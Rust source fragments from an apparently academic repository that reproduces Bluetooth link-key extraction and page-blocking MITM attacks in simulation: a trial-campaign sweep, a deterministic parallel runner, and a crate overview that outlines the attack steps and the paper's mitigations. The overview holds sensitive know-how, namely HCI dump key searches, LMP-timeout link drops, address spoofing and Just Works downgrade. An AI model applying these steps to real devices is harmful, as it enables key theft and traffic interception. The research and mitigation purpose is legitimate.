/// seeds, so a trial's configuration dice never correlate with its
/// scheduler dice.
const SAMPLE_SALT: u64 = 0x5eed_5a17_ca3b_a16e;

/// A configured campaign: the population plus the sweep shape.
#[derive(Clone, Debug)]
pub struct Campaign {
    /// The sampled population.
    pub population: Population,
    /// Total trial count.
    pub trials: u64,
    /// Shard count (contiguous trial ranges; the parallel work unit).
    pub shards: u64,
    /// Master seed: both the per-trial world seeds and the parameter
    /// sampling derive from it.
    pub seed: u64,
}

impl Campaign {
    /// A campaign with a default shard shape: one shard per
    /// [`Campaign::DEFAULT_SHARD_TRIALS`] trials. A pure function of the
    /// trial count — never of the worker count — so the default is
    /// reproducible across machines.
    pub fn new(population: Population, trials: u64, seed: u64) -> Campaign {
        let shards = trials.div_ceil(Campaign::DEFAULT_SHARD_TRIALS).max(1);
        Campaign {
            population,
            trials,
            shards,
            seed,
        }
    }

    /// Default trials per shard: large enough that shard dispatch cost
    /// vanishes, small enough that work-stealing can balance a skewed
    /// population across workers.
    pub const DEFAULT_SHARD_TRIALS: u64 = 2048;

    /// The effective shard count (at least one, never more than trials).
    pub fn shard_count(&self) -> u64 {
        self.shards.clamp(1, self.trials.max(1))
    }

    /// The contiguous trial range `[start, end)` shard `shard` owns.
    /// Remainder trials go to the leading shards, so sizes differ by at
    /// most one.
    pub fn shard_range(&self, shard: u64) -> (u64, u64) {
        let shards = self.shard_count();
        assert!(shard < shards, "shard {shard} out of {shards}");
        let per = self.trials / shards;
        let extra = self.trials % shards;
        let start = shard * per + shard.min(extra);
        let len = per + u64::from(shard < extra);
        (start, start + len)
    }

    /// Samples trial `trial`'s configuration — pure, schedule-free.
    pub fn sample(&self, trial: u64) -> TrialSpec {
        let mut dice = SeedStream(runner::seed_for(self.seed ^ SAMPLE_SALT, trial));
        let p = &self.population;
        // Weighted profile draw.
        let mut ticket = dice.below(p.weight_total());
        let mut profile_index = 0;
        for (i, (_, weight)) in p.pool.iter().enumerate() {
            let weight = u64::from(*weight);
            if ticket < weight {
                profile_index = i;
                break;
            }
            ticket -= weight;
        }
        let (lo, hi) = p.pairing_delay_ms;
        TrialSpec {
            profile_index,
            blocking: dice.percent(p.blocking_percent),
            user_accepts: p.users.accepts(dice.next()),
            keepalive: dice.percent(p.keepalive_percent),
            mitigate_role_check: dice.percent(p.mitigation_percent),
            pairing_delay_ms: lo + dice.below(hi.saturating_sub(lo) + 1),
        }
    }

    /// Runs one trial: builds the sampled scenario, runs it in a fresh
    /// world, and folds the world's metrics plus the campaign verdict
    /// counters into `shard_metrics`. `tracer` is disabled on the plain
    /// path (campaign memory must not scale with trials) and carries a
    /// [`StreamSink`] on the `--check-invariants` path, where the
    /// streaming analyzer retires each trial's events as they complete —
    /// still constant memory.
    fn run_trial(&self, trial: u64, shard_metrics: &mut Metrics, tracer: &Tracer) {
        let spec = self.sample(trial);
        let (profile, _) = self.population.pool[spec.profile_index];
        let mut scenario = PageBlockingScenario::new(profile, runner::seed_for(self.seed, trial));
        scenario.trials = 1;
        scenario.user_accepts = spec.user_accepts;
        scenario.keepalive = spec.keepalive;
        scenario.mitigate_role_check = spec.mitigate_role_check;
        scenario.pairing_delay = Duration::from_millis(spec.pairing_delay_ms);
        let (outcome, world_metrics) = if spec.blocking {
            scenario.run_blocking_trial_observed(0, tracer)
        } else {
            scenario.run_baseline_trial_observed(0, tracer)
        };
        shard_metrics.merge(&world_metrics);

        let m = shard_metrics;
        m.inc("campaign.trials");
        let mode = if spec.blocking {
            "campaign.mode.blocking"
        } else {
            "campaign.mode.baseline"
        };
        m.inc(mode);
        m.add(
            "campaign.mitm_established",
            u64::from(outcome.mitm_established),
        );
        m.add(
            "campaign.paired_with_attacker",
            u64::from(outcome.paired_with_attacker),
        );
        m.add("campaign.honest_pairing", u64::from(outcome.honest_pairing));
        m.add(
            "campaign.downgraded_to_just_works",
            u64::from(outcome.downgraded_to_just_works),
        );
        m.add("campaign.popup_shown", u64::from(outcome.popup_shown));
        m.add("campaign.security_alert", u64::from(outcome.security_alert));
        m.observe("campaign.pairing_delay_ms", spec.pairing_delay_ms);
        // Per-profile win accounting: key space is bounded by the pool
        // size, so the bag stays small at any trial count.
        let scoped = if spec.blocking {
            "blocking"
        } else {
            "baseline"
        };
        m.add(
            &format!("campaign.device.{}.{scoped}_trials", profile.name),
            1,
        );
        m.add(
            &format!("campaign.device.{}.{scoped}_wins", profile.name),
            u64::from(outcome.mitm_established),
        );
        // Live telemetry is observation only: the hub sees the verdict
        // and the trial's virtual span, never feeds anything back.
        if telemetry::enabled() {
            telemetry::record_trial(
                &format!("{}/{scoped}", profile.name),
                outcome.mitm_established,
                world_metrics.counter("virtual_us"),
            );
        }
    }

    /// Runs shard `shard` serially, returning its metrics bag. Each trial
    /// owns its world outright — device state and scheduler heap live and
    /// die inside this call.
    pub fn run_shard(&self, shard: u64) -> Metrics {
        let (start, end) = self.shard_range(shard);
        let mut metrics = Metrics::new();
        let tracer = Tracer::disabled();
        for trial in start..end {
            self.run_trial(trial, &mut metrics, &tracer);
        }
        metrics.inc("campaign.shards");
        telemetry::record_shard();
        metrics
    }

    /// How many violations one checked shard reports live on stderr
    /// before suppressing the rest (the [`ViolationSummary`] still counts
    /// them all). Keeps a badly broken campaign from flooding the
    /// terminal at millions of trials.
    pub const MAX_LIVE_VIOLATIONS_PER_SHARD: usize = 8;

    /// [`Campaign::run_shard`] with live invariant checking: every
    /// trial's trace events stream through a per-trial
    /// [`blap_obs::StreamAnalyzer`] (retired as the trial completes, so
    /// memory stays bounded by one trial's span table), violations are
    /// surfaced on stderr as they are found, and the shard's verdict
    /// comes back as a [`ViolationSummary`].
    ///
    /// The metrics bag is byte-identical to the unchecked
    /// [`Campaign::run_shard`]: tracing feeds the analyzer only, never
    /// the metrics (pinned in `tests/parallel_determinism.rs`).
    pub fn run_shard_checked(&self, shard: u64) -> (Metrics, ViolationSummary) {
        let (start, end) = self.shard_range(shard);
        let mut metrics = Metrics::new();
        let mut summary = ViolationSummary::new();
        let mut live = 0usize;
        for trial in start..end {
            let tracer = Tracer::new();
            let sink = StreamSink::new();
            tracer.attach(sink.clone());
            self.run_trial(trial, &mut metrics, &tracer);
            let analysis = sink.finish();
            telemetry::record_violations(analysis.violations.len() as u64);
            for v in &analysis.violations {
                if live < Campaign::MAX_LIVE_VIOLATIONS_PER_SHARD {
                    eprintln!("campaign shard {shard} trial {trial}: VIOLATION {v}");
                } else if live == Campaign::MAX_LIVE_VIOLATIONS_PER_SHARD {
                    eprintln!(
                        "campaign shard {shard}: further violations suppressed \
                         (see the final summary)"
                    );
                }
                live += 1;
            }
            summary.record(&format!("trial {trial}"), &analysis);
        }
        metrics.inc("campaign.shards");
        telemetry::record_shard();
        (metrics, summary)
    }

    /// Runs shards `[first, last)` across `jobs` workers and merges their
    /// bags in shard-index order. The partial aggregate of a prefix wave
    /// merged with the aggregate of the remaining waves equals the whole
    /// run's aggregate (merge associativity) — the checkpoint/resume
    /// contract.
    pub fn run_shards(&self, jobs: Jobs, first: u64, last: u64) -> Metrics {
        let shards = self.shard_count();
        assert!(
            first <= last && last <= shards,
            "shard wave {first}..{last} out of {shards}"
        );
        let bags = runner::parallel_map(jobs, (last - first) as usize, |i| {
            self.run_shard(first + i as u64)
        });
        let mut merged = Metrics::new();
        for bag in &bags {
            merged.merge(bag);
        }
        merged
    }

    /// [`Campaign::run_shards`] with live invariant checking: per-shard
    /// `(Metrics, ViolationSummary)` pairs merge in shard-index order, so
    /// both aggregates are byte-identical at any worker count and across
    /// checkpoint/resume splits.
    pub fn run_shards_checked(
        &self,
        jobs: Jobs,
        first: u64,
        last: u64,
    ) -> (Metrics, ViolationSummary) {
        let shards = self.shard_count();
        assert!(
            first <= last && last <= shards,
            "shard wave {first}..{last} out of {shards}"
        );
        let results = runner::parallel_map(jobs, (last - first) as usize, |i| {
            self.run_shard_checked(first + i as u64)
        });
        let mut merged = Metrics::new();
        let mut summary = ViolationSummary::new();
        for (bag, shard_summary) in &results {
            merged.merge(bag);
            summary.merge(shard_summary);
        }
        (merged, summary)
    }

    /// Runs the whole campaign.
    pub fn run(&self, jobs: Jobs) -> Metrics {
        self.run_shards(jobs, 0, self.shard_count())
    }

    /// Runs the whole campaign with live invariant checking.
    pub fn run_checked(&self, jobs: Jobs) -> (Metrics, ViolationSummary) {
        self.run_shards_checked(jobs, 0, self.shard_count())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> Campaign {
        Campaign {
            population: Population::fleet(),
            trials: 50,
            shards: 7,
            seed: 11,
        }
    }

    #[test]
    fn shard_ranges_partition_the_trial_space() {
        let c = small();
        let mut covered = 0;
        for shard in 0..c.shard_count() {
            let (start, end) = c.shard_range(shard);
            assert_eq!(start, covered, "shards are contiguous");
            assert!(end > start, "no empty shard when trials >= shards");
            covered = end;
        }
        assert_eq!(covered, c.trials);
        // More shards than trials degrades gracefully.
        let degenerate = Campaign {
            shards: 100,
            ..small()
        };
        assert_eq!(degenerate.shard_count(), 50);
    }

    #[test]
    fn sampling_is_pure_and_spreads() {
        let c = small();
        for trial in 0..c.trials {
            assert_eq!(c.sample(trial), c.sample(trial), "trial {trial}");
        }
        let specs: Vec<TrialSpec> = (0..400).map(|t| c.sample(t)).collect();
        let profiles_hit: std::collections::BTreeSet<usize> =
            specs.iter().map(|s| s.profile_index).collect();
        assert!(
            profiles_hit.len() >= 5,
            "400 draws over 7 weighted profiles hit most of them: {profiles_hit:?}"
        );
        assert!(specs.iter().any(|s| s.blocking));
        assert!(specs.iter().any(|s| !s.blocking));
        assert!(specs.iter().any(|s| !s.user_accepts), "10% declining users");
        let (lo, hi) = c.population.pairing_delay_ms;
        assert!(specs
            .iter()
            .all(|s| (lo..=hi).contains(&s.pairing_delay_ms)));
    }

    #[test]
    fn table2_population_is_all_blocking_accepting() {
        let c = Campaign {
            population: Population::table2(),
            trials: 40,
            shards: 4,
            seed: 3,
        };
        for trial in 0..c.trials {
            let spec = c.sample(trial);
            assert!(spec.blocking);
            assert!(spec.user_accepts);
            assert!(spec.keepalive);
            assert!(!spec.mitigate_role_check);
            assert_eq!(spec.pairing_delay_ms, 2000);
        }
    }

    #[test]
    fn population_names_resolve() {
        for name in Population::names() {
            let p = Population::by_name(name).expect("listed name resolves");
            assert_eq!(p.name, *name);
            assert!(!p.pool.is_empty());
        }
        assert!(Population::by_name("nope").is_none());
    }

    #[test]
    fn shard_merge_is_wave_split_invariant() {
        let c = small();
        let whole = c.run(Jobs::serial());
        assert_eq!(whole.counter("campaign.trials"), c.trials);
        assert_eq!(whole.counter("campaign.shards"), c.shard_count());
        // Split into two waves at an uneven boundary: merged waves must
        // reproduce the straight run byte-for-byte.
        let mut split = c.run_shards(Jobs::serial(), 0, 3);
        split.merge(&c.run_shards(Jobs::serial(), 3, c.shard_count()));
        assert_eq!(split.to_json(), whole.to_json());
    }

    #[test]
    fn checked_shards_match_unchecked_metrics_and_pass_invariants() {
        let c = small();
        let plain = c.run(Jobs::serial());
        let (checked, summary) = c.run_checked(Jobs::serial());
        // Tracing feeds the analyzer only — the metrics bag must not
        // notice that invariant checking was on.
        assert_eq!(checked.to_json(), plain.to_json());
        assert!(summary.is_clean(), "{}", summary.render());
        assert_eq!(summary.trials_checked, c.trials);
        // Wave-split merge invariance holds for the summary too.
        let (mut m, mut s) = c.run_shards_checked(Jobs::serial(), 0, 3);
        let (m2, s2) = c.run_shards_checked(Jobs::serial(), 3, c.shard_count());
        m.merge(&m2);
        s.merge(&s2);
        assert_eq!(m.to_json(), checked.to_json());
        assert_eq!(s, summary);
    }

    #[test]
    fn default_shard_shape_is_a_function_of_trials_only() {
        let c = Campaign::new(Population::fleet(), 1_000_000, 1);
        assert_eq!(c.shards, 489);
        assert_eq!(Campaign::new(Population::fleet(), 1, 1).shards, 1);
        assert_eq!(Campaign::new(Population::fleet(), 0, 1).shard_count(), 1);
    }
}
