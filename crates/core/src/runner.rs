//! Deterministic parallel experiment engine.
//!
//! Every experiment in this repo is a map over independent units (a trial,
//! a device profile, a sweep point, a PIN chunk) whose per-unit randomness
//! comes from a seed derived *only* from the experiment seed and the unit
//! index — never from execution order. That property makes the parallel
//! schedule invisible: [`parallel_map`] over any [`Jobs`] count produces
//! output byte-identical to the serial loop it replaced, so Table I/II and
//! the ablation sweeps stay reproducible while scaling across cores.
//!
//! Workers are plain [`std::thread::scope`] threads pulling unit indices
//! from an atomic counter (work stealing, no per-unit channel traffic);
//! results land in index-addressed slots so output order never depends on
//! completion order. [`parallel_search`] adds the early-exit variant used
//! by PIN cracking: ascending chunks with a shared best-candidate bound.

use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use blap_obs::{prof, telemetry};

/// Worker-thread count for an experiment run.
///
/// Resolution order: an explicit [`Jobs::new`], the `BLAP_JOBS` environment
/// variable, then [`std::thread::available_parallelism`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Jobs(usize);

/// The environment variable overriding the default worker count.
pub const JOBS_ENV_VAR: &str = "BLAP_JOBS";

impl Jobs {
    /// An explicit worker count (clamped to at least 1).
    pub fn new(n: usize) -> Jobs {
        Jobs(n.max(1))
    }

    /// One worker: the serial schedule.
    pub fn serial() -> Jobs {
        Jobs(1)
    }

    /// Reads `BLAP_JOBS`, falling back to the machine's available
    /// parallelism. Unparseable or zero values fall back too, so a broken
    /// environment degrades to a sensible default instead of panicking.
    pub fn from_env() -> Jobs {
        Jobs::resolve_from(None, std::env::var(JOBS_ENV_VAR).ok().as_deref()).jobs
    }

    /// Resolves the worker count from an optional CLI argument and the
    /// optional `BLAP_JOBS` environment value, in that precedence order,
    /// falling back to [`Jobs::default`].
    ///
    /// Zero and unparseable values are treated identically at *both*
    /// levels: the level is skipped (falling through to the next) and a
    /// warning is reported. This is the one resolution path every binary
    /// uses, so `--jobs 0` and `BLAP_JOBS=0` can no longer disagree.
    ///
    /// Pure function of its inputs — pass `std::env::var(JOBS_ENV_VAR)`
    /// yourself — so resolution order is unit-testable without mutating
    /// process environment.
    pub fn resolve_from(cli: Option<&str>, env: Option<&str>) -> JobsResolution {
        let mut warnings = Vec::new();
        for (source, value) in [("cli", cli), ("env", env)] {
            let Some(raw) = value else { continue };
            match raw.trim().parse::<usize>() {
                Ok(n) if n > 0 => {
                    return JobsResolution {
                        jobs: Jobs(n),
                        source,
                        warnings,
                    };
                }
                Ok(_) => warnings.push(format!(
                    "ignoring {source} jobs value 0: falling back (use 1 for serial)"
                )),
                Err(_) => {
                    warnings.push(format!("ignoring unparseable {source} jobs value {raw:?}"))
                }
            }
        }
        JobsResolution {
            jobs: Jobs::default(),
            source: "default",
            warnings,
        }
    }

    /// The worker count.
    pub fn get(&self) -> usize {
        self.0
    }
}

/// Outcome of [`Jobs::resolve_from`]: the resolved count, which level
/// supplied it, and any warnings about skipped levels.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct JobsResolution {
    /// The resolved worker count.
    pub jobs: Jobs,
    /// `"cli"`, `"env"` or `"default"`.
    pub source: &'static str,
    /// One message per invalid (zero or unparseable) level skipped.
    pub warnings: Vec<String>,
}

impl Default for Jobs {
    fn default() -> Self {
        Jobs(
            std::thread::available_parallelism()
                .map(|n| n.get())
                .unwrap_or(1),
        )
    }
}

impl std::str::FromStr for Jobs {
    type Err = std::num::ParseIntError;
    /// Parses a worker count. `"0"` resolves to [`Jobs::default`] — the
    /// same fallback `BLAP_JOBS=0` gets — rather than silently clamping to
    /// serial, so the two spellings can never diverge. Prefer
    /// [`Jobs::resolve_from`] in binaries: it also reports the fallback as
    /// a warning.
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        s.trim()
            .parse::<usize>()
            .map(|n| if n == 0 { Jobs::default() } else { Jobs(n) })
    }
}

/// Derives the seed for one unit of an experiment.
///
/// A SplitMix64-style mix: every (experiment, unit) pair lands on an
/// uncorrelated 64-bit stream, unlike the `seed + i` arithmetic it
/// replaces, where adjacent experiments could alias each other's units.
/// The derivation is a pure function of its inputs, which is what lets a
/// parallel schedule reproduce serial output exactly.
pub fn seed_for(experiment: u64, unit_index: u64) -> u64 {
    let mut z = experiment
        .wrapping_add(unit_index.wrapping_mul(0x9e37_79b9_7f4a_7c15))
        .wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Maps `f` over `0..units` across `jobs` workers, preserving index order.
///
/// `f(i)` must be a pure function of `i` (derive randomness with
/// [`seed_for`]); under that contract the output is byte-identical for any
/// worker count. Panics in `f` propagate.
pub fn parallel_map<R, F>(jobs: Jobs, units: usize, f: F) -> Vec<R>
where
    R: Send,
    F: Fn(usize) -> R + Sync,
{
    let workers = jobs.get().min(units.max(1));
    // Snapshot the profiling and telemetry states once per run so a
    // mid-run toggle can't produce half-accounted pools. Wall-clock
    // accounting is sidecar-only: it never touches the results, so
    // determinism is unaffected.
    let prof_on = prof::enabled();
    let telemetry_on = telemetry::enabled();
    let timed = prof_on || telemetry_on;
    let run_started = prof_on.then(Instant::now);
    if workers <= 1 {
        let out: Vec<R> = if timed {
            let mut out = Vec::with_capacity(units);
            let mut busy = Duration::ZERO;
            for i in 0..units {
                let task_started = Instant::now();
                out.push(f(i));
                let took = task_started.elapsed();
                busy += took;
                if telemetry_on {
                    telemetry::record_unit(0, took);
                }
            }
            if prof_on {
                prof::record_worker("parallel_map", 0, busy, units as u64);
            }
            out
        } else {
            (0..units).map(f).collect()
        };
        if let Some(started) = run_started {
            prof::record_pool("parallel_map", started.elapsed());
        }
        return out;
    }
    let next = AtomicUsize::new(0);
    let f = &f;
    let next = &next;
    let buckets: Vec<Vec<(usize, R)>> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..workers)
            .map(|worker| {
                scope.spawn(move || {
                    let mut done = Vec::new();
                    let mut busy = Duration::ZERO;
                    let mut tasks = 0u64;
                    loop {
                        let i = next.fetch_add(1, Ordering::Relaxed);
                        if i >= units {
                            break;
                        }
                        if timed {
                            let task_started = Instant::now();
                            done.push((i, f(i)));
                            let took = task_started.elapsed();
                            busy += took;
                            tasks += 1;
                            if telemetry_on {
                                telemetry::record_unit(worker, took);
                            }
                        } else {
                            done.push((i, f(i)));
                        }
                    }
                    if prof_on {
                        prof::record_worker("parallel_map", worker, busy, tasks);
                        // Drain before the closure returns: thread::scope
                        // signals completion ahead of TLS destructors, so
                        // relying on the Drop-merge backstop would race a
                        // report() right after this join.
                        prof::drain_thread();
                    }
                    done
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("experiment worker panicked"))
            .collect()
    });
    if let Some(started) = run_started {
        prof::record_pool("parallel_map", started.elapsed());
    }
    // Reassemble in unit order; completion order is irrelevant.
    let mut slots: Vec<Option<R>> = (0..units).map(|_| None).collect();
    for bucket in buckets {
        for (i, r) in bucket {
            slots[i] = Some(r);
        }
    }
    slots
        .into_iter()
        .map(|r| r.expect("every unit index produced exactly once"))
        .collect()
}

/// Searches `0..total` for the lowest-index hit, scanning in ascending
/// chunks of `chunk_size` across `jobs` workers.
///
/// `search_chunk(start, end)` scans `[start, end)` in ascending order and
/// returns the first hit as `(global_index, payload)`. Workers claim chunks
/// in ascending order and skip any chunk that starts at or past the best
/// hit found so far, so the search ends early — but because the winner is
/// the *minimum* index over all hits, the result equals the serial scan's
/// first hit regardless of which worker found what first.
pub fn parallel_search<R, F>(jobs: Jobs, total: u64, chunk_size: u64, search_chunk: F) -> Option<R>
where
    R: Send,
    F: Fn(u64, u64) -> Option<(u64, R)> + Sync,
{
    parallel_search_scratch(
        jobs,
        total,
        chunk_size,
        || (),
        |(), start, end| search_chunk(start, end),
    )
}

/// [`parallel_search`] with per-worker scratch state.
///
/// `init()` runs once per worker thread (and once total in the serial
/// path); the resulting value is passed `&mut` to every chunk that worker
/// scans, so buffers survive chunk boundaries instead of being rebuilt per
/// chunk. The scratch must not affect the scan's *result* — determinism
/// across worker counts still comes from the lowest-index-wins rule.
pub fn parallel_search_scratch<S, R, I, F>(
    jobs: Jobs,
    total: u64,
    chunk_size: u64,
    init: I,
    search_chunk: F,
) -> Option<R>
where
    R: Send,
    I: Fn() -> S + Sync,
    F: Fn(&mut S, u64, u64) -> Option<(u64, R)> + Sync,
{
    assert!(chunk_size > 0, "chunk_size must be positive");
    let workers = jobs.get();
    let prof_on = prof::enabled();
    let telemetry_on = telemetry::enabled();
    let timed = prof_on || telemetry_on;
    let run_started = prof_on.then(Instant::now);
    if workers <= 1 || total <= chunk_size {
        // Same accounting contract as the parallel path below: busy time
        // covers the chunk scans only (scratch `init()` is setup, not
        // work) and one task per chunk scanned, so serial and parallel
        // utilization numbers are comparable.
        let mut scratch = init();
        let mut busy = Duration::ZERO;
        let mut chunks_scanned = 0u64;
        let mut result = None;
        let mut start = 0u64;
        while start < total {
            let end = (start + chunk_size).min(total);
            let chunk_started = timed.then(Instant::now);
            let hit = search_chunk(&mut scratch, start, end);
            if let Some(started) = chunk_started {
                let took = started.elapsed();
                busy += took;
                chunks_scanned += 1;
                if telemetry_on {
                    telemetry::record_unit(0, took);
                }
            }
            if let Some((_, payload)) = hit {
                result = Some(payload);
                break;
            }
            start = end;
        }
        if let Some(started) = run_started {
            prof::record_worker("parallel_search", 0, busy, chunks_scanned);
            prof::record_pool("parallel_search", started.elapsed());
        }
        return result;
    }
    let best: Mutex<Option<(u64, R)>> = Mutex::new(None);
    let next_chunk = AtomicU64::new(0);
    let best_index = AtomicU64::new(u64::MAX);
    let n_chunks = total.div_ceil(chunk_size);
    std::thread::scope(|scope| {
        for worker in 0..workers.min(n_chunks as usize) {
            let (init, search_chunk, next_chunk, best_index, best) =
                (&init, &search_chunk, &next_chunk, &best_index, &best);
            scope.spawn(move || {
                let mut scratch = init();
                let mut busy = Duration::ZERO;
                let mut chunks_scanned = 0u64;
                loop {
                    let chunk = next_chunk.fetch_add(1, Ordering::Relaxed);
                    if chunk >= n_chunks {
                        break;
                    }
                    let start = chunk * chunk_size;
                    // Chunks ascend, so nothing at or past the current best
                    // can beat it; this worker is finished.
                    if start >= best_index.load(Ordering::Acquire) {
                        break;
                    }
                    let end = (start + chunk_size).min(total);
                    let chunk_started = timed.then(Instant::now);
                    let hit = search_chunk(&mut scratch, start, end);
                    if let Some(started) = chunk_started {
                        let took = started.elapsed();
                        busy += took;
                        chunks_scanned += 1;
                        if telemetry_on {
                            telemetry::record_unit(worker, took);
                        }
                    }
                    if let Some((index, payload)) = hit {
                        let mut guard = best.lock().expect("search lock");
                        if guard.as_ref().map(|(i, _)| index < *i).unwrap_or(true) {
                            *guard = Some((index, payload));
                            best_index.fetch_min(index, Ordering::Release);
                        }
                    }
                }
                if prof_on {
                    prof::record_worker("parallel_search", worker, busy, chunks_scanned);
                    prof::drain_thread();
                }
            });
        }
    });
    if let Some(started) = run_started {
        prof::record_pool("parallel_search", started.elapsed());
    }
    best.into_inner()
        .expect("search lock")
        .map(|(_, payload)| payload)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seed_for_is_pure_and_spread() {
        assert_eq!(seed_for(1, 2), seed_for(1, 2));
        assert_ne!(seed_for(1, 2), seed_for(1, 3));
        assert_ne!(seed_for(1, 2), seed_for(2, 2));
        // Adjacent experiments must not alias adjacent units, the flaw of
        // `seed + i` derivations.
        assert_ne!(seed_for(1, 1), seed_for(2, 0));
    }

    #[test]
    fn parallel_map_matches_serial_at_any_width() {
        let f = |i: usize| seed_for(42, i as u64) as u128 * 3;
        let serial: Vec<u128> = (0..97).map(f).collect();
        for jobs in [1, 2, 4, 8, 13] {
            assert_eq!(parallel_map(Jobs::new(jobs), 97, f), serial, "{jobs} jobs");
        }
        assert_eq!(parallel_map(Jobs::new(4), 0, f), Vec::<u128>::new());
    }

    #[test]
    fn parallel_search_finds_lowest_index() {
        // Hits at 113 and 611: every schedule must report 113.
        let scan = |start: u64, end: u64| {
            (start..end)
                .find(|&i| i == 113 || i == 611)
                .map(|i| (i, i * 10))
        };
        for jobs in [1, 2, 4, 8] {
            assert_eq!(
                parallel_search(Jobs::new(jobs), 1000, 64, scan),
                Some(1130),
                "{jobs} jobs"
            );
        }
        assert_eq!(parallel_search(Jobs::new(4), 100, 64, scan), None);
    }

    #[test]
    fn parallel_search_chunk_larger_than_space() {
        // One chunk covers everything; every worker count degenerates to
        // the serial scan and must agree with it.
        let scan = |start: u64, end: u64| (start..end).find(|&i| i == 7).map(|i| (i, i));
        for jobs in [1, 2, 8] {
            assert_eq!(
                parallel_search(Jobs::new(jobs), 10, 64, scan),
                Some(7),
                "{jobs} jobs"
            );
        }
    }

    #[test]
    fn parallel_search_space_not_divisible_by_chunk() {
        // 1000 = 15 × 64 + 40: the last chunk is short, and a hit inside
        // it must still surface at any worker count.
        let scan = |start: u64, end: u64| (start..end).find(|&i| i == 993).map(|i| (i, i * 3));
        for jobs in [1, 2, 4, 8] {
            assert_eq!(
                parallel_search(Jobs::new(jobs), 1000, 64, scan),
                Some(2979),
                "{jobs} jobs"
            );
        }
    }

    #[test]
    fn parallel_search_hit_at_last_index() {
        let scan = |start: u64, end: u64| (start..end).find(|&i| i == 999).map(|i| (i, i));
        for jobs in [1, 2, 4, 8] {
            assert_eq!(
                parallel_search(Jobs::new(jobs), 1000, 64, scan),
                Some(999),
                "{jobs} jobs"
            );
        }
        // ...but one past the end is out of reach.
        for jobs in [1, 8] {
            assert_eq!(parallel_search(Jobs::new(jobs), 999, 64, scan), None);
        }
    }

    #[test]
    fn parallel_search_scratch_persists_per_worker_and_stays_deterministic() {
        use std::sync::atomic::AtomicUsize;
        // Scratch counts the chunks each worker scanned; it must persist
        // across chunk boundaries (strictly increasing per worker) without
        // changing which hit wins.
        let inits = AtomicUsize::new(0);
        let scan = |chunks_seen: &mut usize, start: u64, end: u64| {
            *chunks_seen += 1;
            (start..end).find(|&i| i == 113 || i == 611).map(|i| (i, i))
        };
        for jobs in [1, 2, 4, 8] {
            let result = parallel_search_scratch(
                Jobs::new(jobs),
                1000,
                64,
                || {
                    inits.fetch_add(1, Ordering::Relaxed);
                    0usize
                },
                scan,
            );
            assert_eq!(result, Some(113), "{jobs} jobs");
        }
        // One init per worker per run, never per chunk: 1000/64 = 16 chunks
        // per run would blow well past this bound if scratch were rebuilt.
        assert!(inits.load(Ordering::Relaxed) <= 1 + 2 + 4 + 8);
    }

    #[test]
    fn jobs_resolution() {
        assert_eq!(Jobs::new(0).get(), 1);
        assert_eq!(Jobs::serial().get(), 1);
        assert_eq!("6".parse::<Jobs>().map(|j| j.get()), Ok(6));
        assert!(Jobs::default().get() >= 1);
    }

    #[test]
    fn zero_jobs_string_matches_env_semantics() {
        // Regression: `--jobs 0` used to clamp to serial while
        // `BLAP_JOBS=0` fell back to available parallelism. Both spellings
        // must now resolve identically.
        let parsed: Jobs = "0".parse().expect("0 parses");
        assert_eq!(parsed, Jobs::default());
        assert_eq!(
            Jobs::resolve_from(Some("0"), None).jobs,
            Jobs::resolve_from(None, Some("0")).jobs
        );
    }

    #[test]
    fn resolve_order_is_cli_env_default() {
        let r = Jobs::resolve_from(Some("3"), Some("5"));
        assert_eq!((r.jobs.get(), r.source), (3, "cli"));
        assert!(r.warnings.is_empty());

        let r = Jobs::resolve_from(None, Some("5"));
        assert_eq!((r.jobs.get(), r.source), (5, "env"));

        let r = Jobs::resolve_from(None, None);
        assert_eq!((r.jobs, r.source), (Jobs::default(), "default"));
        assert!(r.warnings.is_empty());
    }

    #[test]
    fn resolve_skips_invalid_levels_with_warnings() {
        // Zero CLI falls through to a valid env value.
        let r = Jobs::resolve_from(Some("0"), Some("5"));
        assert_eq!((r.jobs.get(), r.source), (5, "env"));
        assert_eq!(r.warnings.len(), 1);
        assert!(r.warnings[0].contains("cli"), "{:?}", r.warnings);

        // Unparseable CLI and zero env both fall through to the default.
        let r = Jobs::resolve_from(Some("lots"), Some("0"));
        assert_eq!((r.jobs, r.source), (Jobs::default(), "default"));
        assert_eq!(r.warnings.len(), 2);
        assert!(r.warnings[1].contains("env"), "{:?}", r.warnings);

        // Whitespace is tolerated, not a warning.
        let r = Jobs::resolve_from(Some(" 2 "), None);
        assert_eq!((r.jobs.get(), r.source), (2, "cli"));
        assert!(r.warnings.is_empty());
    }
}
