//! BLAP: Bluetooth Link key extraction And Page blocking attacks.
//!
//! This crate is the paper's contribution layer: executable, end-to-end
//! implementations of both attacks against the simulated Bluetooth stack,
//! plus the §VII mitigations and the experiment drivers that regenerate the
//! paper's tables and figures.
//!
//! * [`extract`] — the two HCI observation channels (Android snoop log via
//!   bug report; USB analyzer + hex conversion + `0b 04 16` search),
//! * [`link_key_extraction`] — the Fig 5 attack: provoke the victim
//!   accessory into loading its bonded key, drop the link by LMP timeout,
//!   pull the dump, extract the key, and validate it by impersonation
//!   (Fig 10 fake bonding + PAN tethering, §VI-B1),
//! * [`page_blocking`] — the Fig 6b attack: PLOC pre-connection under a
//!   spoofed address, deterministic MITM, Just Works downgrade; plus the
//!   42–60% baseline race it replaces (Table II),
//! * [`mitigations`] — dump filtering, HCI payload encryption, and the
//!   connection-initiator role check, each shown to stop its attack,
//! * [`report`] — table/figure rendering for the benchmark binaries,
//! * [`runner`] — the deterministic parallel experiment engine: every
//!   driver maps over independent units with per-unit derived seeds, so
//!   `BLAP_JOBS=8` output is byte-identical to the serial run,
//! * [`campaign`] — the fleet-scale sweep layer on top of [`runner`]:
//!   seeded populations of device/user/attack configurations sharded
//!   across workers with streaming metric aggregation.
//!
//! # Quickstart
//!
//! ```
//! use blap::link_key_extraction::ExtractionScenario;
//! use blap_sim::profiles;
//!
